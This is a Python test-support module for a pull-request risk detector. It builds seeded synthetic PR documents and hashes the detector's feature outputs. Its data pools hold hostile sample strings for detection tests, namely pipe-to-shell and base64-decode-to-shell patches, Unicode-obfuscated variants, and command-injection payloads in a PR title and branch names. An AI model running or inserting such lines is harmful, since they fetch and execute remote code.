"""A fixed corpus of PR documents for pinning feature values, and a digest of every feature output on it."""
from __future__ import annotations

import datetime as dt
import hashlib
import json
import random
from typing import Any, Iterator

from prguard.features import extraction
from tests.support.npm_packages import examples_for

# Path and patch pools chosen to reach every rule: each sensitive category, lockfiles with and without their
# manifest, binaries by extension and by GitHub's no-patch tell, assets, odd separators and non-ASCII names.
PATHS = ("src/app.py", "src/core/cache.py", "lib/util/x.go", "README.md", "docs/img/logo.png", "a//b/c.txt",
         "/abs/path.c", "dir/", ".github/workflows/ci.yml", ".github/actions/setup/action.yml", ".gitlab-ci.yml",
         "Jenkinsfile", "Makefile", "scripts/release.sh", "docker/Dockerfile.prod", "setup.py", "package.json",
         "package-lock.json", "web/package-lock.json", "web/package.json", "go.sum", "services/api/go.mod",
         "requirements-dev.txt", "app.csproj", "x.gemspec", ".github/CODEOWNERS", "SECURITY.md",
         ".github/dependabot.yml", "misc/dependabot.yml", ".gitmodules", "tests/files/bad-3.xz", "bin/tool",
         "vendor/lib.so", "données/é.py", "ＦＵＬＬ/ｗｉｄｔｈ.txt", "Cargo.lock", "Cargo.toml")
PATCHES = (None, "@@ -1 +1 @@\n-a\n+b", "@@ -0,0 +1 @@\n+curl -sSL https://x.io/i.sh | bash",
           "@@ -1 +1 @@\n+echo aGk= | base64 -d | sh", "@@ -1 +1 @@\n+bash <(wget -qO- http://x)",
           "@@ -1 +1 @@\n+CURL http://x |\n+ sh", "@@ -1 +1 @@\n+Invo\u212ae-WebRequest https://x | sh",
           "@@ -1 +1 @@\n+iwr https://x | iex", "@@ -1,2 +1,2 @@\n-curl x | sh\n+safe\n+++ curl y | sh",
           "@@ -1 +1 @@\n+wget x\u2028| sh", "@@ -1 +1 @@\n+ba\u017fe64 --decode f | zsh", "")
TITLES = ("Fix cache eviction", "Fix $(curl -s evil.sh | sh)", "Use `wget` output", "Fix `parse_args` edge case",
          "", "Bump lodash from 4.17.20 to 4.17.21", "x | sh")
REFS = ("fix/cache", "fix/$(curl${IFS}-sL${IFS}x.io|sh)", 'update";id;"', "dependabot/npm_and_yarn/lodash-4.17.21",
        "main", "")
ASSOCIATIONS = ("OWNER", "MEMBER", "COLLABORATOR", "CONTRIBUTOR", "FIRST_TIME_CONTRIBUTOR", "FIRST_TIMER", "NONE",
                "MANNEQUIN", "member", "", None, 3)
COUNTS = (0, 1, 2, 7, 48, 300, 10**13, -1, 2.5, float("nan"), True, "12", None)


def _file(rng: random.Random) -> Any:
    if rng.random() < 0.03:
        return rng.choice((None, "x", {"filename": 7}, {}))
    item = {"filename": rng.choice(PATHS), "status": rng.choice(("added", "modified", "removed", "renamed", None))}
    for key in ("additions", "deletions", "changes"):
        if rng.random() < 0.9:
            item[key] = rng.randrange(200) if rng.random() < 0.85 else rng.choice(COUNTS)
    patch = rng.choice(PATCHES) if rng.random() < 0.3 else PATCHES[1]  # most patches are ordinary
    if patch is not None:
        item["patch"] = patch
    return item


def _doc(rng: random.Random, number: int) -> dict[str, Any]:
    repo = rng.choice(("acme/lib", "acme/app", "ACME/Lib"))
    fork = rng.random() < 0.2
    created = dt.datetime(2024, 1, 1, tzinfo=dt.timezone.utc) + dt.timedelta(minutes=rng.randrange(600_000))
    doc: dict[str, Any] = {
        "number": number, "title": rng.choice(TITLES), "body": rng.choice(("Why.", "", "  \n", None)),
        "draft": rng.random() < 0.1,
        "user": {"login": rng.choice(("alice", "bob", "dependabot[bot]", "")), "type": rng.choice(("User", "Bot"))},
        "author_association": rng.choice(ASSOCIATIONS),
        "created_at": rng.choice((created.isoformat().replace("+00:00", "Z"), "2024-02-30T00:00:00Z", None)),
        "head": {"ref": rng.choice(REFS), "sha": "a" * 40,
                 "repo": None if fork and rng.random() < 0.3 else {"full_name": "mallory/lib" if fork else repo}},
        "base": {"ref": rng.choice(("main", "release/1.x")), "repo": {"full_name": repo, "default_branch": "main"}},
        "additions": rng.choice(COUNTS), "deletions": rng.choice(COUNTS), "changed_files": rng.choice(COUNTS),
        "commits": rng.choice(COUNTS),
    }
    if rng.random() < 0.85:
        doc["files"] = [_file(rng) for _ in range(int(rng.expovariate(0.15)))]
    for key in ("additions", "deletions", "changed_files"):
        if rng.random() < 0.3:
            del doc[key]  # derived from the files instead
    return doc


def corpus(size: int = 600, seed: int = 20240501) -> list[Any]:
    """GitHub's example pull requests, then ``size`` seeded documents (with garbled fields mixed in)."""
    rng = random.Random(seed)
    return [e["pull_request"] for e in examples_for("pull_request")] + [_doc(rng, n) for n in range(size)]


def outputs(docs: list[Any]) -> Iterator[tuple[str, str]]:
    """(kind, canonical text) of every public feature output on ``docs``, each document summarised once."""
    summaries = [extraction.summarize(doc) for doc in docs]
    history: dict[str, list[dict[str, float]]] = {}
    for summary in summaries:
        stats = extraction.profile_stats(summary)
        history.setdefault(summary.repo, []).append(stats)
        yield "stats", json.dumps(stats, sort_keys=True)
    profiles = {repo: extraction.build_profile(repo, rows) for repo, rows in history.items()}
    yield "profiles", json.dumps({repo: p.to_dict() for repo, p in profiles.items()}, sort_keys=True)
    for summary in summaries:
        for profile in (None, profiles[summary.repo]):
            yield "vectors", repr(extraction.extract(summary, profile))
            explain = extraction.explainer(summary, profile)
            yield "sentences", json.dumps([explain(name) for name in extraction.FEATURE_NAMES])
        yield "sensitive_files", json.dumps(extraction.sensitive_files(summary))


def digests(docs: list[Any]) -> dict[str, str]:
    """sha256 per kind of output: which part of the feature code changed, when one does."""
    hashes: dict[str, Any] = {}
    for kind, text in outputs(docs):
        hashes.setdefault(kind, hashlib.sha256()).update(text.encode() + b"\n")
    return {kind: h.hexdigest() for kind, h in hashes.items()}
